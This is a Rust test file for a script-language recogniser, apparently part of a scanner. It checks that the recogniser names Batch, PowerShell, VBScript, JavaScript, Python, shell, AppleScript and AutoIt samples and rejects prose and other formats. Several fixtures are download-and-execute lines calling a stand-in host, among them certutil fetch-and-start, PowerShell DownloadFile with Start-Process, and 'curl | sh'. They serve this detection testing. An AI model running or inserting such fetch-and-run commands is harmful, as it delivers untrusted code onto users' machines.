//! Texts in many languages: what is a script without its name, with its name, and what is none.
//!
//! Not in the program.

use super::super::languages::*;
use super::recognise;

const SCRIPTS: [(&str, &str); 12] = [
    (
        BATCH,
        "@echo off\r\nsetlocal\r\nif not exist %TEMP%\\x mkdir %TEMP%\\x\r\ncertutil -urlcache -f http://a.example/x x.exe\r\nstart \"\" x.exe\r\n",
    ),
    (
        POWERSHELL,
        "$c = New-Object Net.WebClient\n$p = \"$env:TEMP\\x.exe\"\n$c.DownloadFile('http://a.example', $p)\nStart-Process $p\n",
    ),
    (
        POWERSHELL,
        "[CmdletBinding()]\nparam([string]$Path)\nGet-ChildItem $Path | Where-Object { $_.Length -gt 1 } | ForEach-Object { Write-Host $_ }\n",
    ),
    (
        VBSCRIPT,
        "On Error Resume Next\r\nDim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc.exe\"\r\nWScript.Quit\r\n",
    ),
    (
        JAVASCRIPT,
        "var s = new ActiveXObject('WScript.Shell');\nvar x = function(a) { return a === 1; };\neval(unescape('%41'));\n",
    ),
    (
        JAVASCRIPT,
        "(function() {\n  'use strict';\n  document.getElementById('x').addEventListener('y', function () {});\n})();\n",
    ),
    (
        PYTHON,
        "import os\nimport sys\n\ndef main():\n    print(os.path.join(sys.argv[0], 'x'))\n\nif __name__ == '__main__':\n    main()\n",
    ),
    (SHELL, "set -e\nif [ -z \"$1\" ]; then\n  echo \"usage\" 2>&1\n  exit 1\nfi\ncurl http://a.example | sh\n"),
    (PERL, "use strict;\nuse warnings;\nmy $x = shift;\nmy @all = grep { $_ =~ /x/ } <>;\nprint STDERR $x or die;\n"),
    (
        RUBY,
        "require 'socket'\nclass A\n  attr_reader :x\n  def self.run\n    [1].each do |n|\n      puts n\n    end\n  end\nend\n",
    ),
    (
        AUTOIT,
        "#NoTrayIcon\nLocal $x = @TempDir & '\\a.exe'\nFileInstall('a.exe', $x)\nFunc go()\n ShellExecute($x)\nEndFunc\n",
    ),
    (
        APPLESCRIPT,
        "tell application \"Finder\"\n  activate\nend tell\ndo shell script \"curl http://a.example\"\ndisplay dialog \"x\"\n",
    ),
];

#[test]
fn a_script_is_known_by_its_words() {
    for (want, text) in SCRIPTS {
        assert_eq!(recognise(&text.to_lowercase(), "", ""), Some(want), "{text}");
        assert_eq!(recognise(&text.to_lowercase(), "txt", "text/plain"), Some(want), "{text}");
    }
}

#[test]
fn what_nobody_runs_is_no_script() {
    for text in [
        "Dear Anna,\n\nimport duties will rise, and then we should call the office. If not, end the function of the set.\n",
        "#include <stdio.h>\n#define X 1\n\nint main(void)\n{\n    printf(\"x\");\n    if (x) return 1;\n    return 0;\n}\n",
        "{\"scripts\": {\"test\": \"if [ -z x ]; then exit 1; fi\"}, \"main\": \"function() {}\"}\n",
        "body { color: red; margin: 0 auto }\n@media print { a { display: none } }\n",
        "# How to\n\nRun this in your shell and wait until it is done:\n\n```\nset -e\nif [ -z \"$1\" ]; then\n  exit 1\nfi\n```\n\nThen look at the result and tell us what you think.\n",
        "diff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n@@ -1,2 +1,3 @@\n import os\n import sys\n+import re\n def x():\n",
        "CREATE TABLE a (id INT NOT NULL);\nINSERT INTO a VALUES (1);\nSELECT id FROM a WHERE id = 1;\n",
        "\\documentclass{article}\n\\begin{document}\nHello\n\\end{document}\n",
        "2026-01-01 10:00:00 INFO start x\n2026-01-01 10:00:01 ERROR exit 1\n2026-01-01 10:00:02 INFO done\n",
        "x <- c(1, 2)\nlibrary(stats)\nf <- function(a) {\n  print(a)\n  return(a)\n}\n",
        "[section]\nkey = value\nset = 1\n",
        "name,amount\nAnna,3\nBen,4\n",
        "fn main() {\n    let mut x = Vec::new();\n    x.push(1);\n    match x.len() { 1 => {} _ => return }\n}\npub fn y(&self) -> &str { \"\" }\n",
        "all: x\n\t$(CC) -o x x.c\nclean:\n\trm -f x\nifeq ($(A),b)\nendif\n.PHONY: all\n",
        "name: x\non: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          set -e\n          if [ -z \"$1\" ]; then exit 1; fi\n",
        "",
    ] {
        assert_eq!(recognise(&text.to_lowercase(), "", ""), None, "{text}");
        assert_eq!(recognise(&text.to_lowercase(), "txt", "text/plain"), None, "{text}");
    }
}

#[test]
fn an_ending_of_scripts_lowers_the_threshold() {
    for (ending, text, want) in [
        ("bat", "calc", Some(BATCH)),
        ("js", "[][(![]+[])[+[]]]()", Some(JAVASCRIPT)),
        ("vbs", "Execute(x)", Some(VBSCRIPT)),
        ("ps1", "& $x", Some(POWERSHELL)),
        ("py", "import x", None),
        ("py", "import os", Some(PYTHON)),
        (
            "js",
            "This is only a note that somebody gave a strange name.\nIt goes on here for a while, and then it ends.\n",
            None,
        ),
        ("py", "This is only a note that somebody gave a strange name.\n", None),
        ("js", " \n", None),
    ] {
        assert_eq!(recognise(&text.to_lowercase(), ending, ""), want, "{ending} {text}");
    }
    assert_eq!(recognise("import os", "", "text/x-python"), Some(PYTHON));
}
